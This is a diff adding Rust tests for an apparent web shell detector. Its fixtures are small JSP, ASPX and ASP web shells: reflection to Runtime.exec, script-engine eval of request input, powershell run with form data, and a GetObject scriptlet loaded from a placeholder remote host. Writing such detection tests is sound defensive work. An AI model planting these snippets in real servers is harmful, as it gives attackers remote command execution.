@@ -466,3 +466,49 @@ fn eval_of_many_pieces_spelling_request_is_detected_even_when_cut_short() {
     let benign = b"<%\r\nExecute(\"Sub \"&\"Show\"&\"Menu\"&\"(\"&\")\"&\": \"&\"Response.Write \" & label & \": End Sub\")\r\n%>";
     assert_clean(&analyze(benign, Lang::Asp));
 }
+
+#[test]
+fn reflection_spelled_out_to_runtime_exec_is_a_command_flow() {
+    let src = b"<% String q = request.getParameter(\"q\");\n\
+        Class<?> rt = Class.forName(\"java.lang.Runtime\");\n\
+        Object inst = rt.getMethod(\"getRuntime\").invoke(null);\n\
+        rt.getMethod(\"exec\", String.class).invoke(inst, q); %>";
+    assert_detected(&analyze(src, Lang::Jsp), "flow.command");
+    let benign = b"<% Object bean = session.getAttribute(\"form\");\n\
+        java.lang.reflect.Method m = bean.getClass().getMethod(\"get\" + request.getParameter(\"field\"));\n\
+        out.print(m.invoke(bean)); %>";
+    assert_clean(&analyze(benign, Lang::Jsp));
+}
+
+#[test]
+fn script_engines_reached_through_call_chains_and_typed_locals() {
+    let chain = b"<% new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(request.getParameter(\"s\")); %>";
+    assert_detected(&analyze(chain, Lang::Jsp), "flow.code");
+    let local = b"<% groovy.lang.GroovyShell gs = new groovy.lang.GroovyShell();\nObject r = gs.evaluate(request.getParameter(\"g\"));\nout.print(r); %>";
+    assert_detected(&analyze(local, Lang::Jsp), "flow.code");
+    // XPath evaluation of a request expression is an injection bug, not a shell.
+    let benign = b"<% Object r = javax.xml.xpath.XPathFactory.newInstance().newXPath().evaluate(request.getParameter(\"q\"), doc);\nout.print(r); %>";
+    assert_clean(&analyze(benign, Lang::Jsp));
+}
+
+#[test]
+fn process_arguments_in_an_object_initialiser_from_the_request() {
+    let src = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
+        var run = new System.Diagnostics.Process { StartInfo = { FileName = \"powershell\", Arguments = \"-c \" + Request.Form[\"p\"], UseShellExecute = false } };\n\
+        run.Start(); }\n</script>";
+    assert_detected(&analyze(src, Lang::Aspx), "flow.command");
+    let benign = b"<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n\
+        var info = new System.Diagnostics.ProcessStartInfo { FileName = \"ping\", Arguments = \"-n 1 localhost\" };\n\
+        Label1.Text = info.Arguments; }\n</script>";
+    assert_clean(&analyze(benign, Lang::Aspx));
+}
+
+#[test]
+fn getobject_script_moniker_runs_a_remote_scriptlet() {
+    let src = b"<%\r\nSet k = GetObject(\"script:\" & Request.QueryString(\"s\"))\r\n%>";
+    assert_detected(&analyze(src, Lang::Asp), "flow.code");
+    let fixed = b"<%\r\nSet k = GetObject(\"script:http://198.51.100.9/a.sct\")\r\n%>";
+    assert_detected(&analyze(fixed, Lang::Asp), "capability.remote-code");
+    let benign = b"<%\r\nSet svc = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\r\nFor Each d In svc.ExecQuery(\"SELECT FreeSpace FROM Win32_LogicalDisk\")\r\nResponse.Write d.FreeSpace\r\nNext\r\n%>";
+    assert_clean(&analyze(benign, Lang::Asp));
+}
